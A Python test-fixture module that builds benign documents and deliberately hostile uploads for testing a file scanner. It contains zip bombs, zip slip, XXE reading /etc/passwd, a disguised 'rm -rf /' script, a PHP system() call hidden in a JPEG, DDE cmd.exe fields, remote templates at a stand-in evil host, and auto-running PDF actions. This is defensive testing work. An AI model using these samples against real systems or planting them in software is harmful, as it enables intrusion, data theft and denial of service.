"""Files made in code: genuine ones as people send them, and hostile ones as attackers do. All invented."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pikepdf
import xlsxwriter
from PIL import Image

from tinhso.foundation.files.scanning import EICAR

MARK = b"MARK-OF-THE-ATTACKER"
SCRIPT = b"<script>alert('" + MARK + b"')</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
EXE = b"MZ\x90\x00" + MARK + b"\0" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARK + b"\0" * 600
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)
MAIN_REL = '<Relationship Id="r1" Type="http://x/officeDocument" Target="word/document.xml"/>'
BODY = '<w:document xmlns:w="http://x"><w:body><w:p><w:r><w:t>Đơn đề nghị</w:t></w:r></w:p></w:body></w:document>'


def jpeg(size: tuple[int, int] = (60, 40), *, exif: bool = False) -> bytes:
    made = io.BytesIO()
    image = Image.new("RGB", size, (30, 120, 110))
    tags = Image.Exif()
    if exif:
        tags[0x010E] = MARK.decode()
        tags[0x0112] = 6
    image.save(made, "JPEG", exif=tags)
    return made.getvalue()


def png(mode: str = "RGB", size: tuple[int, int] = (60, 40)) -> bytes:
    made = io.BytesIO()
    Image.new(mode, size).save(made, "PNG")
    return made.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A small PNG whose header claims another size."""
    chunk = b"IHDR" + struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    head = b"\x89PNG\r\n\x1a\n" + struct.pack("!I", 13) + chunk + struct.pack("!I", zlib.crc32(chunk))
    return head + png()[33:]


def png_with_text(chunks: Mapping[bytes, bytes]) -> bytes:
    plain = png()
    extra = b"".join(
        struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))
        for kind, body in chunks.items()
    )
    return plain[:33] + extra + plain[33:]


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda made: None, **save: object) -> bytes:
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    change(made)
    out = io.BytesIO()
    made.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def docx(
    parts: Mapping[str, bytes | str] | None = None,
    *,
    types: str = TYPES,
    method: int = zipfile.ZIP_DEFLATED,
    rels: str = "",
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", RELS.format(MAIN_REL))
        archive.writestr("word/document.xml", BODY)
        if rels:
            archive.writestr("word/_rels/document.xml.rels", RELS.format(rels))
        for name, part in (parts or {}).items():
            archive.writestr(name, part)
    return out.getvalue()


def xlsx() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet("Bảng kê")
        for row in range(200):
            sheet.write_row(row, 0, [f"Dòng {row}", row, row * 1.5])
        sheet.write_url(0, 5, "https://example.vn")
        sheet.insert_image(3, 5, "anh.png", {"image_data": io.BytesIO(png())})
    return out.getvalue()


def genuine() -> dict[str, bytes]:
    """What must always be taken."""

    def with_form(made: pikepdf.Pdf) -> None:
        made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), SigFlags=3)

    def with_link(made: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.vn"),
        )  # fmt: skip
        made.pages[0].Annots = pikepdf.Array([made.make_indirect(link)])

    chance = jpeg()[:2] + comment(b"\0" * 1024 + b"<SvG") + jpeg()[2:]
    motion = jpeg() + b"\0\0\0\x18ftypmp42" + b"\0" * 400
    link = '<Relationship Id="r9" Type="http://x/relationships/hyperlink" Target="https://e.vn" TargetMode="External"/>'
    return {
        "Giấy khai sinh.pdf": pdf(),
        "nén.pdf": pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "tuyến tính.PDF": pdf(linearize=True),
        "có biểu mẫu.pdf": pdf(with_form),
        "có liên kết.pdf": pdf(with_link),
        "dòng cuối.pdf": pdf() + b"\r\n\0\0",
        "ảnh.jpg": jpeg(),
        "ảnh điện thoại.JPEG": jpeg((4000, 3000), exif=True),
        "ảnh động.jpg": motion,
        "byte tình cờ.jpg": chance,
        "quét.png": png(),
        "quét đen trắng.png": png("1"),
        "có bảng màu.png": png("P"),
        "trong suốt.png": png("RGBA"),
        "xám.png": png("LA"),
        "Đơn.docx": docx(),
        "đơn có ảnh.docx": docx({"word/media/image1.png": png(), "docProps/thumbnail.jpeg": jpeg()}),
        "đơn có liên kết.docx": docx(rels=link),
        "Bảng kê.xlsx": xlsx(),
        "tên.có.nhiều.chấm.pdf": pdf(),
        "e\u0302 to\u0301 hop.pdf": pdf(),
    }


def _zip_with(name: str, *, symlink: bool = False) -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo(name)
        if symlink:
            entry.external_attr = 0o120777 << 16
        archive.writestr(entry, MARK)
    return out.getvalue()


def _lying_size() -> bytes:
    """A part that unpacks to more than the archive says."""
    content = docx({"word/big.xml": b"A" * 500_000})
    return content.replace(struct.pack("<I", 500_000), struct.pack("<I", 1_000))


def _overlapping() -> bytes:
    """Two hundred names for the same packed bytes."""
    plain = docx({"word/big.xml": b"\0" * 900_000})
    end = plain.rfind(b"PK\x05\x06")
    start = int.from_bytes(plain[end + 16 : end + 20], "little")
    directory = plain[start:end]
    last = directory[directory.rfind(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"word/big.xml", b"word/b%02d.xml" % number) for number in range(99))
    count = int.from_bytes(plain[end + 10 : end + 12], "little") + 99
    size = len(directory) + len(copies)
    tail = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, size, start, 0)
    return plain[:start] + directory + copies + tail


def _encrypted_zip() -> bytes:
    content = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


def _external(kind: str, mode: str = "External") -> bytes:
    return docx(
        rels=f'<Relationship Id="r2" Type="http://x/relationships/{kind}" Target="http://evil.example/a.dotm" '
        f'TargetMode="{mode}"/>'
    )


def _instruction(text: str) -> str:
    return f'<w:document xmlns:w="http://x"><w:instrText>{text}</w:instrText></w:document>'


def hostile() -> dict[str, tuple[str, bytes]]:
    """What must never be taken: a title, the name it is sent under, its bytes. EICAR is the scanner's."""
    whole_pdf, photo, paper = pdf(), jpeg(), docx()
    macro_types = TYPES.replace("document.main", "document.macroEnabled.main")
    lol = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><l>&b;</l>'
    xxe = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    huge_ratio = docx({"word/bomb.xml": b"\0" * 30_000_000})
    nested = docx({"word/inner.bin": docx({"word/bomb.xml": b"\0" * 1_000_000})})
    many = docx({f"word/p{number}.xml": "" for number in range(1001)})
    return {
        # Names
        "path up": ("../../etc/cron.d/a.pdf", whole_pdf),
        "path up, Windows": ("..\\..\\windows\\a.pdf", whole_pdf),
        "absolute path": ("/etc/passwd.pdf", whole_pdf),
        "drive path": ("C:\\a.pdf", whole_pdf),
        "null byte": ("a.pdf\0.exe", whole_pdf),
        "null byte before": ("a.exe\0.pdf", whole_pdf),
        "right to left": ("giay\u202efdp.pdf", whole_pdf),
        "zero width": ("giay\u200b.pdf", whole_pdf),
        "line break": ("giay\r\nSet-Cookie: x.pdf", whole_pdf),
        "lone surrogate": ("giay\ud800.pdf", whole_pdf),
        "no extension": ("passwd", whole_pdf),
        "only an extension": (".pdf", whole_pdf),
        "double extension": ("giay.pdf.exe", whole_pdf),
        "script": ("a.js", b"alert(1)"),
        "html": ("a.html", HTML),
        "svg": ("a.svg", SVG),
        "executable": ("a.exe", EXE),
        "shortcut": ("a.lnk", b"L\0\0\0" + MARK),
        "old Word": ("a.doc", OLE),
        "macro Word": ("a.docm", docx(types=macro_types)),
        "archive": ("a.zip", paper),
        # Not what they say
        "html as pdf": ("a.pdf", HTML),
        "svg as png": ("a.png", SVG),
        "svg as jpg": ("a.jpg", SVG),
        "executable as pdf": ("a.pdf", EXE),
        "executable as docx": ("a.docx", EXE),
        "old Word as docx": ("a.docx", OLE),
        "pdf as jpg": ("a.jpg", whole_pdf),
        "jpg as pdf": ("a.pdf", photo),
        "png as jpg": ("a.jpg", png()),
        "gif as png": ("a.png", b"GIF89a" + MARK),
        "zip as docx": ("a.docx", _zip_of({"a.txt": MARK})),
        "xlsx as docx": ("a.docx", xlsx()),
        "docx as xlsx": ("a.xlsx", paper),
        "shell script as pdf": ("a.pdf", b"#!/bin/sh\nrm -rf /\n%PDF-1.7 %%EOF"),
        "header alone": ("a.pdf", b"%PDF-1.7\n%%EOF"),
        "empty": ("a.pdf", b""),
        "text as pdf": ("a.pdf", b"%PDF-1.7\n" + b"la la la\n" * 100 + b"%%EOF"),
        # Two things at once
        "pdf before zip": ("a.pdf", whole_pdf + _zip_of({"a.txt": MARK})),
        "pdf before html": ("a.pdf", whole_pdf + HTML),
        "html before pdf": ("a.pdf", HTML + whole_pdf),
        "html inside pdf head": ("a.pdf", whole_pdf.replace(b"\n", b"\n%" + HTML + b"\n", 1)),
        "jpg before zip": ("a.jpg", photo + _zip_of({"a.txt": MARK})),
        "jpg before html": ("a.jpg", photo + HTML),
        "jpg with php": ("a.jpg", photo[:2] + comment(b"<?php system('" + MARK + b"')?>") + photo[2:]),
        "jpg before pdf": ("a.jpg", photo + whole_pdf),
        "png before zip": ("a.png", png() + _zip_of({"a.txt": MARK})),
        "png with script": ("a.png", png_with_text({b"tEXt": b"Comment\0" + SCRIPT})),
        "executable before docx": ("a.docx", EXE + paper),
        "docx before html": ("a.docx", paper + HTML),
        "docx before executable": ("a.docx", paper + EXE),
        # Bombs
        "zip bomb": ("a.docx", huge_ratio),
        "nested zip": ("a.docx", nested),
        "many parts": ("a.docx", many),
        "lying size": ("a.docx", _lying_size()),
        "overlapping parts": ("a.docx", _overlapping()),
        "pixel flood": ("a.png", png_claiming(100_000, 100_000)),
        "pixel flood, hidden": ("a.png", png_claiming(12_000, 12_000)),
        "object bomb": ("a.pdf", _object_bomb()),
        "text bomb": ("a.png", png_with_text({b"zTXt": b"a\0\0" + zlib.compress(b"\0" * 80_000_000)})),
        "billion laughs": ("a.docx", docx({"word/settings.xml": lol})),
        "billion laughs, UTF-16": ("a.docx", docx({"word/settings.xml": lol.decode().encode("utf-16")})),
        "external entity": ("a.docx", docx({"customXml/item1.xml": xxe})),
        "too large": ("a.pdf", whole_pdf[:-6] + b"\n%" + b"A" * (21 * 1024 * 1024) + b"\n%%EOF\n"),
        # Archives that reach out
        "zip slip": ("a.docx", _zip_with("../../evil.xml")),
        "zip slip, absolute": ("a.docx", _zip_with("/etc/evil.xml")),
        "zip slip, Windows": ("a.docx", _zip_with("..\\evil.xml")),
        "symbolic link": ("a.docx", _zip_with("word/link", symlink=True)),
        "two of a name": ("a.docx", _zip_with("WORD/document.xml")),
        "encrypted parts": ("a.docx", _encrypted_zip()),
        "macro": ("a.docx", docx({"word/vbaProject.bin": OLE})),
        "macro under another name": ("a.docx", docx({"word/media/image1.png": OLE})),
        "macro by its type": ("a.docx", docx(types=macro_types)),
        "embedded executable": ("a.docx", docx({"word/media/image1.png": EXE})),
        "embedded object": ("a.docx", docx({"word/embeddings/oleObject1.bin": MARK})),
        "active control": ("a.docx", docx({"word/activeX/activeX1.xml": "<a/>"})),
        "template from afar": ("a.docx", _external("attachedTemplate")),
        "object from afar": ("a.docx", _external("oleObject")),
        "frame from afar": ("a.docx", _external("frame")),
        "picture from afar": ("a.docx", _external("image")),
        "template from afar, disguised": ("a.docx", _external("attachedTemplate", "&#69;xternal")),
        "field that calls": ("a.docx", docx({"word/footer1.xml": _instruction("DDEAUTO c:\\\\cmd.exe")})),
        # Locked, cut, broken
        "locked pdf": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b"))),
        "locked pdf, open to read": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user=""))),
        "cut pdf": ("a.pdf", whole_pdf[: len(whole_pdf) // 2]),
        "cut pdf with an end": ("a.pdf", whole_pdf[: len(whole_pdf) // 2] + b"\n%%EOF"),
        "cut jpg": ("a.jpg", jpeg((400, 300))[:900]),
        "cut png": ("a.png", png()[:60]),
        "cut docx": ("a.docx", paper[: len(paper) // 2]),
        "pdf without pages": ("a.pdf", pdf(lambda made: made.pages.__delitem__(0))),
        "broken part": ("a.docx", _broken_part()),
    }  # fmt: skip


def infected() -> dict[str, tuple[str, bytes]]:
    """What only a scanner knows."""

    def attach(made: pikepdf.Pdf) -> None:
        made.Root.Info2 = pikepdf.Stream(made, EICAR)

    return {
        "EICAR in a pdf": ("a.pdf", pdf(attach, compress_streams=False)),
        "EICAR in a docx": ("a.docx", docx({"word/note.xml": EICAR}, method=zipfile.ZIP_STORED)),
        "EICAR in a photo": ("a.jpg", jpeg() + EICAR),
    }


def _object_bomb() -> bytes:
    """A PDF whose packed objects unpack to 40 MB on opening."""

    def swell(made: pikepdf.Pdf) -> None:
        made.Root.X = made.make_indirect(pikepdf.Dictionary(A=pikepdf.String(b"A" * 40_000_000)))

    return pdf(swell, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _zip_of(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def comment(text: bytes) -> bytes:
    return b"\xff\xfe" + struct.pack("!H", len(text) + 2) + text


def _broken_part() -> bytes:
    content = bytearray(docx({"word/a.xml": b"A" * 50}, method=zipfile.ZIP_STORED))
    content[content.find(b"A" * 50)] = ord("B")
    return bytes(content)


def acting() -> dict[str, bytes]:
    """PDFs that would act by themselves: taken in as they are, shown only as a copy that does nothing."""
    dictionary, name, array = pikepdf.Dictionary, pikepdf.Name, pikepdf.Array

    def script() -> pikepdf.Dictionary:
        return dictionary(S=name.JavaScript, JS=f"app.alert('{MARK.decode()}')")

    def launch() -> pikepdf.Dictionary:
        return dictionary(S=name.Launch, F=MARK.decode())

    def on_open(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = script()

    def on_page(made: pikepdf.Pdf) -> None:
        made.pages[0].AA = dictionary(O=made.make_indirect(launch()))

    def named(made: pikepdf.Pdf) -> None:
        made.Root.Names = dictionary(
            JavaScript=dictionary(Names=array([pikepdf.String("a"), made.make_indirect(script())]))
        )

    def button(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = array(
            [dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=launch())]
        )

    def chained(made: pikepdf.Pdf) -> None:
        first = dictionary(S=name.URI, URI="https://example.vn", Next=array([script()]))
        made.pages[0].Annots = array(
            [made.make_indirect(dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=first))]
        )

    def field(made: pikepdf.Pdf) -> None:
        made.Root.AcroForm = dictionary(
            Fields=array([made.make_indirect(dictionary(FT=name.Tx, T="a", AA=dictionary(K=script())))])
        )

    def dynamic_form(made: pikepdf.Pdf) -> None:
        made.Root.AcroForm = dictionary(Fields=array(), XFA=pikepdf.Stream(made, MARK))

    def attachment(made: pikepdf.Pdf) -> None:
        made.attachments["a.exe"] = pikepdf.AttachedFileSpec(
            made, MARK, filename="a.exe", description="", mime_type="", creation_date="", mod_date=""
        )

    def pinned(made: pikepdf.Pdf) -> None:
        spec = dictionary(Type=name.Filespec, F="a.exe", EF=dictionary(F=pikepdf.Stream(made, MARK)))
        made.pages[0].Annots = array(
            [dictionary(Type=name.Annot, Subtype=name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)]
        )

    def media(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = array(
            [dictionary(Type=name.Annot, Subtype=name.RichMedia, Rect=[0, 0, 9, 9],
                        RichMediaContent=dictionary(Assets=MARK.decode()))]
        )  # fmt: skip

    def sends(made: pikepdf.Pdf) -> None:
        widget = made.make_indirect(
            dictionary(Type=name.Annot, Subtype=name.Widget, FT=name.Btn, T="a", Rect=[0, 0, 9, 9],
                       A=dictionary(S=name.SubmitForm, F=MARK.decode()))
        )  # fmt: skip
        made.pages[0].Annots = array([widget])
        made.Root.AcroForm = dictionary(Fields=array([widget]))

    changes = (
        on_open, on_page, named, button, chained, field, dynamic_form, attachment, pinned, media, sends
    )  # fmt: skip
    return {change.__name__: pdf(change) for change in changes}
